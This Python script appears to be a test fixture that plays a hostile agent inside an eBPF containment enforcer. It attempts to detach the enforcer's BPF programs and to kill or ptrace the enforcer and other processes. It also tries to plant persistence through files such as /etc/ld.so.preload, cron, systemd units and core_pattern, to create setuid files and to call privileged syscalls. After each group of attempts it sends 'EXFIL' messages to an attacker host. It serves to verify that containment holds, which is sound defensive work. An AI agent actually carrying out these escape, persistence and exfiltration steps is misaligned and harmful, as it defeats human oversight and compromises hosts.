#!/usr/bin/env python3
"""An agent that attacks the enforcer itself (Python 3 stdlib only, x86_64).

Usage: containment_agent.py EXCHANGE_DIR

It writes EXCHANGE_DIR/ready, waits for EXCHANGE_DIR/hint.json (written by
the test from outside: the real pin paths of this run, enforcer's host pid,
another agent's host pids, the attacker's address, descriptors it left
open), then tries every way it knows to switch enforcement off or walk
around it, and after each group tries to reach the attacker. Results go to
EXCHANGE_DIR/results.json as a list of
  {"name", "ok", "errno", "err", ...}
then it waits for EXCHANGE_DIR/go (the test checks enforcement from
outside meanwhile) and exits 0.
"""
import ctypes
import errno as E
import json
import os
import signal
import socket
import struct
import sys
import time

EXCH = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
RESULTS = []

# x86_64 system call numbers
SYS = {
    "bpf": 321, "perf_event_open": 298, "kexec_load": 246, "kexec_file_load": 320,
    "init_module": 175, "finit_module": 313, "delete_module": 176, "keyctl": 250,
    "add_key": 248, "request_key": 249, "userfaultfd": 323, "ptrace": 101,
    "process_vm_readv": 310, "process_vm_writev": 311, "pidfd_open": 434,
    "pidfd_getfd": 438, "open_by_handle_at": 304, "io_uring_setup": 425,
    "unshare": 272, "mount": 165, "setns": 308, "kcmp": 312, "clone": 56,
}
X32 = 0x40000000


def syscall(name, *args, x32=False):
    nr = SYS[name] | (X32 if x32 else 0)
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def record(name, fn, **extra):
    rec = {"name": name, "ok": False, "errno": None, "err": None, "t": round(time.time(), 2)}
    rec.update(extra)
    try:
        v = fn()
        rec["ok"] = True
        if v is not None:
            rec["value"] = v
    except OSError as e:
        rec["errno"] = E.errorcode.get(e.errno, str(e.errno))
        rec["err"] = str(e)
    except Exception as e:  # noqa: BLE001 - report, never crash
        rec["err"] = "%s: %s" % (type(e).__name__, e)
    RESULTS.append(rec)
    return rec


def exfil(tag):
    """After each group: try the attacker (must fail)."""
    host, port = HINT["attacker"]

    def tcp():
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(("EXFIL after %s\n" % tag).encode())
        s.close()

    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(("EXFIL after %s\n" % tag).encode(), (host, port))
    record("exfil_tcp_after_" + tag, tcp, exfil=True)
    record("exfil_udp_after_" + tag, udp, exfil=True)


def bpf_attr_obj_get(path):
    buf = ctypes.create_string_buffer(path.encode())
    # union bpf_attr for BPF_OBJ_GET: pathname u64, bpf_fd u32, file_flags u32
    attr = struct.pack("QII", ctypes.addressof(buf), 0, 0) + b"\0" * 112
    return ctypes.create_string_buffer(attr, len(attr)), buf


def bpf(cmd, attr=None, x32=False):
    if attr is None:
        attr = ctypes.create_string_buffer(128)
    return syscall("bpf", cmd, ctypes.addressof(attr), len(attr), x32=x32)


BPF_OBJ_GET, BPF_PROG_DETACH, BPF_PROG_GET_NEXT_ID = 7, 9, 11
BPF_PROG_GET_FD_BY_ID, BPF_MAP_UPDATE_ELEM = 13, 2
BPF_LINK_GET_FD_BY_ID, BPF_LINK_GET_NEXT_ID, BPF_LINK_DETACH = 30, 31, 34


def bpf_mounts():
    out = []
    with open("/proc/self/mountinfo") as f:
        for line in f:
            p = line.split()
            dash = p.index("-")
            if p[dash + 1] == "bpf":
                out.append(p[4])
    return out


def walk(d, limit=200):
    found = []
    for root, dirs, files in os.walk(d):
        for f in files + dirs:
            found.append(os.path.join(root, f))
            if len(found) >= limit:
                return found
    return found


def main():
    global HINT
    open(os.path.join(EXCH, "ready"), "w").write(json.dumps({"pid": os.getpid()}))
    for _ in range(600):
        p = os.path.join(EXCH, "hint.json")
        if os.path.exists(p):
            try:
                HINT = json.load(open(p))
                break
            except ValueError:
                pass
        time.sleep(0.1)
    else:
        raise SystemExit("no hint")

    # ---- 1. the enforcer's kernel objects --------------------------------
    record("bpffs_mounts_visible", lambda: bpf_mounts(), expect_value=[])
    record("sys_fs_bpf_entries", lambda: walk("/sys/fs/bpf"), expect_value=[])
    for path in HINT["pins"][:20]:
        record("open_pin", lambda path=path: os.open(path, os.O_RDONLY), path=path)
        attr, keep = bpf_attr_obj_get(path)
        record("bpf_obj_get_pin", lambda attr=attr: bpf(BPF_OBJ_GET, attr), path=path)
    for guess in ["/sys/fs/bpf/enforcer", HINT["pin_dir"],
                  HINT["pin_dir"] + "/run-%d" % HINT["enforcer_pid"]]:
        attr, keep = bpf_attr_obj_get(guess)
        record("bpf_obj_get_guess", lambda attr=attr: bpf(BPF_OBJ_GET, attr), path=guess)
    record("bpf_link_get_next_id", lambda: bpf(BPF_LINK_GET_NEXT_ID))
    record("bpf_prog_get_next_id", lambda: bpf(BPF_PROG_GET_NEXT_ID))
    for i in range(1, 6):
        a = ctypes.create_string_buffer(struct.pack("I", i) + b"\0" * 124, 128)
        record("bpf_link_get_fd_by_id", lambda a=a: bpf(BPF_LINK_GET_FD_BY_ID, a), id=i)
        record("bpf_prog_get_fd_by_id", lambda a=a: bpf(BPF_PROG_GET_FD_BY_ID, a), id=i)
    record("bpf_link_detach", lambda: bpf(BPF_LINK_DETACH))
    record("bpf_prog_detach", lambda: bpf(BPF_PROG_DETACH))
    record("bpf_map_update", lambda: bpf(BPF_MAP_UPDATE_ELEM))
    record("bpf_x32_abi", lambda: bpf(BPF_LINK_GET_NEXT_ID, x32=True))
    exfil("bpf")

    # ---- 2. socket families no cgroup hook judges -------------------------
    for fam_name, fam, typ in [("AF_VSOCK", 40, socket.SOCK_STREAM),
                               ("AF_PACKET", 17, socket.SOCK_RAW),
                               ("AF_RDS", 21, socket.SOCK_SEQPACKET),
                               ("AF_TIPC", 30, socket.SOCK_RDM),
                               ("AF_XDP", 44, socket.SOCK_RAW),
                               ("AF_ALG", 38, socket.SOCK_SEQPACKET)]:
        record("socket_" + fam_name, lambda fam=fam, typ=typ: socket.socket(fam, typ).close())
    for proto_name, proto in [("NETLINK_NETFILTER", 12), ("NETLINK_XFRM", 6),
                              ("NETLINK_AUDIT", 9), ("NETLINK_GENERIC", 16)]:
        record("netlink_" + proto_name,
               lambda proto=proto: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto).close())
    record("netlink_NETLINK_ROUTE_allowed",
           lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close())
    exfil("sockets")

    # ---- 3. host files root services act on -------------------------------
    def append(path):
        with open(path, "a") as f:
            f.write("# enforcer containment test: the agent wrote here\n")
    for path in ["/etc/hosts", "/etc/cron.d/enforcer-containment-test",
                 "/etc/ld.so.preload", "/root/.bashrc",
                 "/etc/systemd/system/enforcer-containment-test.service"]:
        record("write_host_file", lambda path=path: append(path), path=path)
    record("write_core_pattern",
           lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x"))
    record("write_sysrq", lambda: open("/proc/sysrq-trigger", "w").write("h"))
    record("host_tmp_marker_visible", lambda: os.path.exists(HINT["host_tmp_marker"]),
           expect_value=False)
    record("unix_socket_in_run", lambda: socket.socket(socket.AF_UNIX).connect(HINT["run_socket"]))
    record("abstract_unix_socket",
           lambda: socket.socket(socket.AF_UNIX).connect("\0" + HINT["abstract_socket"]))
    for path in [HINT["policy"], HINT["audit_log"]]:
        record("write_enforcer_file", lambda path=path: append(path), path=path)

    def setuid_file():
        p = os.path.join(EXCH, "suid-%d" % os.getpid())
        with open(p, "w") as f:
            f.write("#!/bin/sh\n")
        os.chmod(p, 0o4755)
    record("chmod_setuid", setuid_file)
    record("create_setuid",
           lambda: os.close(os.open(os.path.join(EXCH, "suid2"), os.O_CREAT | os.O_WRONLY, 0o6755)))
    exfil("files")

    # ---- 4. the enforcer process and other agents -------------------------
    visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    comms = []
    for p in visible:
        try:
            comms.append(open("/proc/%d/comm" % p).read().strip())
        except OSError:
            pass
    record("proc_pids", lambda: visible)
    record("proc_sees_enforcer", lambda: "enforcer" in comms, expect_value=False)
    record("kill_enforcer", lambda: os.kill(HINT["enforcer_pid"], signal.SIGKILL))
    record("stop_enforcer", lambda: os.kill(HINT["enforcer_pid"], signal.SIGSTOP))
    for v in HINT["victims"]:
        record("kill_other_agent", lambda v=v: os.kill(v, signal.SIGKILL), pid=v)
        record("ptrace_other_agent", lambda v=v: syscall("ptrace", 16, v, 0, 0), pid=v)
    record("ptrace_init", lambda: syscall("ptrace", 16, 1, 0, 0))
    record("kill_init", lambda: os.kill(1, signal.SIGKILL))
    record("stop_init", lambda: os.kill(1, signal.SIGSTOP))
    buf = ctypes.create_string_buffer(8)
    iov = struct.pack("QQ", ctypes.addressof(buf), 8)
    iovb = ctypes.create_string_buffer(iov, len(iov))
    record("process_vm_writev_init",
           lambda: syscall("process_vm_writev", 1, ctypes.addressof(iovb), 1,
                           ctypes.addressof(iovb), 1, 0))
    record("pidfd_getfd_init",
           lambda: syscall("pidfd_getfd", syscall("pidfd_open", 1, 0), 3, 0))
    exfil("processes")

    # ---- 5. inherited descriptors -----------------------------------------
    record("inherited_socket_write",
           lambda: os.write(HINT["inherited_fd"], b"EXFIL through an inherited socket\n"))
    record("pass_fd_write", lambda: os.write(HINT["pass_fd"], b"passed-fd-ok\n"))
    def open_fds():
        out = {}
        for f in os.listdir("/proc/self/fd"):
            try:
                out[f] = os.readlink("/proc/self/fd/" + f)
            except OSError:
                pass
        return out
    record("open_fds", open_fds)
    exfil("fds")

    # ---- 6. calls an agent has no business with ---------------------------
    CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x20000, 0x40000000
    record("unshare_user", lambda: syscall("unshare", CLONE_NEWUSER))
    record("unshare_net", lambda: syscall("unshare", CLONE_NEWNET))
    record("clone_newuser", lambda: syscall("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0))
    record("mount_tmpfs", lambda: syscall("mount", 0, 0, 0, 0, 0))
    record("setns", lambda: syscall("setns", 0, 0))
    record("perf_event_open", lambda: syscall("perf_event_open", 0, 0, -1, -1, 0))
    record("keyctl", lambda: syscall("keyctl", 0, 0))
    record("add_key", lambda: syscall("add_key", 0, 0, 0, 0, 0))
    record("userfaultfd", lambda: syscall("userfaultfd", 0))
    record("kexec_load", lambda: syscall("kexec_load", 0, 0, 0, 0))
    record("init_module", lambda: syscall("init_module", 0, 0, 0))
    record("finit_module", lambda: syscall("finit_module", 0, 0, 0))
    record("open_by_handle_at", lambda: syscall("open_by_handle_at", 0, 0, 0))
    record("io_uring_setup", lambda: syscall("io_uring_setup", 4, 0))
    def tiocsti():
        c = ctypes.c_char(b"x")
        ctypes.set_errno(0)
        if libc.ioctl(0, 0x5412, ctypes.byref(c)) < 0:  # TIOCSTI
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))
    record("tiocsti", tiocsti)
    exfil("syscalls")

    # ---- 7. still enforced, allowed traffic still works -------------------
    def allowed():
        s = socket.create_connection(("127.0.0.1", HINT["api_port"]), timeout=3)
        s.sendall(b"allowed-after-attacks\n")
        s.close()
    record("allowed_api", allowed)

    # ---- 8. a flood of refused calls (the log must not grow without bound)
    for _ in range(500):
        try:
            bpf(BPF_PROG_GET_NEXT_ID)
        except OSError:
            pass

    with open(os.path.join(EXCH, "results.tmp"), "w") as f:
        json.dump(RESULTS, f)
    os.rename(os.path.join(EXCH, "results.tmp"), os.path.join(EXCH, "results.json"))
    for _ in range(600):
        if os.path.exists(os.path.join(EXCH, "go")):
            break
        time.sleep(0.1)
    # A fresh process after the test checked from outside: still enforced.
    exfil("final")
    with open(os.path.join(EXCH, "final.tmp"), "w") as f:
        json.dump(RESULTS[-2:], f)
    os.rename(os.path.join(EXCH, "final.tmp"), os.path.join(EXCH, "final.json"))


HINT = {}
main()
